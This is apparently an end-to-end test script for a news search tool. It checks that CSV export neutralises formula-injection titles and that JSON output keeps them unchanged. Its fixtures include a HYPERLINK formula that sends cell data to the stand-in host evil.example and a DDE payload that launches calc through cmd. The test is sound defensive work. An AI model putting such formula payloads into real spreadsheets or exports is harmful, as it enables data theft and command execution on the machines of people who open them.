#!/usr/bin/env bash
# csv_injection.sh NEWS_INDEX NEWS_QUERY: --format csv guards every text cell against CSV injection
# as OWASP recommends (issue 15, item 7): a title starting with '=', '+', '-' or '@' (a formula to
# a spreadsheet) is written with a single quote in front, and quoted as RFC 4180 says when it needs
# it; so is a --batch query. JSON gives the titles as they are.
set -uo pipefail
index=$1
query=$2
# shellcheck source=tests/e2e/lib.sh
source "$(dirname "$0")/lib.sh"

mkdir -p "$archive"
printf '=HYPERLINK("http://evil.example/?x="&A1,"Click")\n\nA ferry story.\n' >"$archive/1-equals.txt"
printf '+1+cmd|'"'"'/C calc'"'"'!A0\n\nA ferry story.\n' >"$archive/2-plus.txt"
printf -- '-2+3 ferry fares\n\nA ferry story.\n' >"$archive/3-minus.txt"
printf '@SUM(1+1) ferry\n\nA ferry story.\n' >"$archive/4-at.txt"
printf 'Plain ferry title\n\nA ferry story.\n' >"$archive/5-plain.txt"
"$index" --quiet --db "$work/db" "$archive" || fail "indexing the archive"

csv=$("$query" --db "$work/db" --format csv --sort oldest ferry | tr -d '\r')
printf '%s\n' "$csv"
# title_cell N: the title cell of the row for file N-*.txt (python's csv module reads it back).
title_cell() {
  python3 -c '
import csv, sys
for row in csv.DictReader(sys.stdin):
    if "/%s-" % sys.argv[1] in row["path"]:
        print(row["title"])' "$1" <<<"$csv"
}
check_eq "title starting with =" "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")" "$(title_cell 1)"
check_eq "title starting with +" "'+1+cmd|'/C calc'!A0" "$(title_cell 2)"
check_eq "title starting with -" "'-2+3 ferry fares" "$(title_cell 3)"
check_eq "title starting with @" "'@SUM(1+1) ferry" "$(title_cell 4)"
check_eq "plain title" "Plain ferry title" "$(title_cell 5)"
# The raw line: the quoted cell starts with the guard, the quotes inside doubled.
if grep -qF ",\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"Click\"\")\"," <<<"$csv"; then
  echo "ok: the = title's cell is guarded, then quoted"
else
  fail "the = title's cell is not guarded and quoted as expected"
fi

printf -- '-xylophone ferry\n' >"$work/batch.txt"
batch=$("$query" --db "$work/db" --format csv --batch "$work/batch.txt" 2>&1 | tr -d '\r')
check_eq "rows of a --batch query starting with -, guarded" 5 "$(grep -c "^'-xylophone ferry," <<<"$batch")"

json=$("$query" --db "$work/db" --format json ferry)
if grep -qF '"title": "=HYPERLINK(' <<<"$json"; then
  echo "ok: JSON gives the title as it is"
else
  fail "JSON changed the title: $json"
fi
finish
